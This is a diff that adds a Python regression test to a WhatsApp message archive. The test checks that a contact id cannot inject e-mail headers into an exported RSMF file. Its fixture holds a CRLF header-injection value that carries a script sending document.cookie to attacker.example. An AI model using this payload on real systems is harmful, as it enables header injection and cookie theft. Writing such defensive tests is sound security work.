@@ -202,3 +202,34 @@ async def test_a_deleted_message_covered_by_a_disposition_row_without_a_ledger_l
     report = await _cli(env, "verify", "--public-key", PUBLIC_KEY)
     assert report.returncode == 1 and victim in report.stdout, (
         "verify said OK for a retained message deleted behind the archive's back:\n" + report.stdout)
+
+
+# --- Export bundles: the RSMF e-mail's headers -------------------------------------------------------
+
+async def test_a_contact_id_cannot_inject_headers_into_the_rsmf_email(stack, tmp_path):
+    """The RSMF file is an RFC 5322 message whose Subject carries the contact's id. A `sender` token
+    chooses it (the record API takes Meta's answer, contacts[0].wa_id included, from the caller); a
+    line break in it ends the headers early and makes the e-mail an HTML document of the sender's."""
+    from wa_archive.export import ExportQuery, write_bundle
+    from wa_archive.keys import safe_id
+    from tests.test_outbound import PNID, status_body
+
+    token = await stack.token("sender")
+    contact = ("x\r\nContent-Type: text/html\r\n\r\n<script>fetch('https://attacker.example/'+document.cookie)"
+               "</script>\r\n")
+    mid = "wamid.RSMF" + uuid.uuid4().hex
+    status, answer = await _record(stack, token, {
+        "phone_number_id": PNID, "request": {**TEXT, "to": "not-a-phone"},
+        "response": {"messages": [{"id": mid}], "contacts": [{"input": "not-a-phone", "wa_id": contact}]}})
+    assert status == 200, answer
+    await stack.post(status_body(mid, "sent", 1771000000))
+    await stack.wait_for_message(mid)
+
+    out = tmp_path / "bundle.zip"
+    await write_bundle(stack.pool, stack.store, ExportQuery(), out, exported_by="attack", signer=SIGNER)
+    with zipfile.ZipFile(out) as zf:
+        raw = zf.read(f"rsmf/{safe_id(contact)}.rsmf")
+    rsmf = email.message_from_bytes(raw)
+    assert rsmf.get_content_type() == "multipart/mixed", (
+        f"the contact id rewrote the RSMF e-mail into {rsmf.get_content_type()}:\n{raw[:400]!r}")
+    assert "<script>" not in rsmf.get("Subject", "") and b"\r\nContent-Type: text/html" not in raw
